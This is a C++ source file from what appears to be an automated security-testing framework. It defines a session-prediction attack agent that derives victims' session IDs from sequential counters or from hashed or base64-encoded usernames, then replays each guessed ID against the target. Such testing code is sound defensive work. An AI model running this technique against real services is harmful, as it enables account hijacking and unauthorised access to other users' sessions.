// guessed-session: looks at ids of his own for a rule and works out the victim's: a counter, the
// time of the sign-in, a digest of the name (OWASP Session Management Cheat Sheet, "Session ID
// Entropy"). Nothing is guessed at random.
#include <algorithm>
#include <charconv>

#include "core/attack/every_agent.h"
#include "core/attack/lure.h"
#include "core/attack/stolen.h"
#include "core/base/ascii.h"
#include "core/base/base64.h"
#include "core/base/hex.h"
#include "core/crypto/digest.h"

namespace parapet::attack {
namespace {

constexpr unsigned long long kWidestGap = 400;

class GuessedSession final : public Agent {
    void run(Target& target) override {
        Credentials const before = own_credentials(target);
        if (!victim_signs_in(target)) return;
        Credentials const after = own_credentials(target);
        for (Credential const& first : before)
            for (Credential const& second : after) {
                if (first.name != second.name || first.kind != second.kind) continue;
                try_all(target, first, between(first.value, second.value));
                try_all(target, first, of_names(target, first.value));
            }
    }

    static void try_all(Target& target, Credential credential,
                        std::vector<std::string> const& values) {
        if (!values.empty())
            target.note("\"" + credential.name + "\" follows a rule; " +
                        std::to_string(values.size()) + " values come into question.");
        for (std::string const& value : values) {
            credential.value = value;
            use(target, {credential});
        }
    }

    // Two ids that differ in one number, decimal or hexadecimal, with few others in between.
    static std::vector<std::string> between(std::string const& first, std::string const& second) {
        std::vector<std::string> all;
        if (first.size() != second.size() || first == second) return all;
        for (int base : {10, 16}) {
            auto const is_digit = [base](char c) {
                return ascii::is_digit(c) || (base == 16 && ((c >= 'a' && c <= 'f')));
            };
            std::size_t start = 0;
            while (first[start] == second[start]) ++start;
            std::size_t end = first.size();
            while (end > start && first[end - 1] == second[end - 1]) --end;
            // The whole number, not only where it differs.
            while (start > 0 && is_digit(first[start - 1]) && end - start < 15) --start;
            while (end < first.size() && is_digit(first[end]) && end - start < 15) ++end;
            auto const low = number(first.substr(start, end - start), base);
            auto const high = number(second.substr(start, end - start), base);
            if (!low || !high || *high <= *low || *high - *low > kWidestGap) continue;
            for (auto value = *low + 1; value < *high; ++value)
                all.push_back(first.substr(0, start) + text(value, base, end - start) +
                              first.substr(end));
            return all;
        }
        return all;
    }

    static std::optional<unsigned long long> number(std::string const& text, int base) {
        unsigned long long value = 0;
        auto const read = std::from_chars(text.data(), text.data() + text.size(), value, base);
        if (read.ec != std::errc() || read.ptr != text.data() + text.size()) return std::nullopt;
        return value;
    }
    static std::string text(unsigned long long value, int base, std::size_t width) {
        char digits[24];
        auto const end = std::to_chars(digits, digits + sizeof digits, value, base).ptr;
        std::string written(digits, end);
        return written.size() < width ? std::string(width - written.size(), '0') + written
                                      : written;
    }

    // If it is a digest of the own name, then of others' names, too.
    static std::vector<std::string> of_names(Target const& target, std::string const& own) {
        std::vector<std::string> all;
        for (auto hash : {crypto::Hash::Md5, crypto::Hash::Sha1, crypto::Hash::Sha256})
            for (Write write : {as_hex, as_base64, as_base64_url})
                if (write(hash, target.surface().attacker.username) == own)
                    for (std::string const& name : target.surface().usernames)
                        all.push_back(write(hash, name));
        for (auto form : {Base64::Standard, Base64::Url})
            if (encode_base64(as_bytes(target.surface().attacker.username), form) == own)
                for (std::string const& name : target.surface().usernames)
                    all.push_back(encode_base64(as_bytes(name), form));
        if (own == target.surface().attacker.username) all = target.surface().usernames;
        return all;
    }

    using Write = std::string (*)(crypto::Hash, std::string const&);
    static std::string as_hex(crypto::Hash hash, std::string const& name) {
        return encode_hex(crypto::digest(hash, as_bytes(name)));
    }
    static std::string as_base64(crypto::Hash hash, std::string const& name) {
        return encode_base64(crypto::digest(hash, as_bytes(name)));
    }
    static std::string as_base64_url(crypto::Hash hash, std::string const& name) {
        return encode_base64(crypto::digest(hash, as_bytes(name)), Base64::Url);
    }
};

}  // namespace

std::unique_ptr<Agent> make_guessed_session() { return std::make_unique<GuessedSession>(); }

}  // namespace parapet::attack
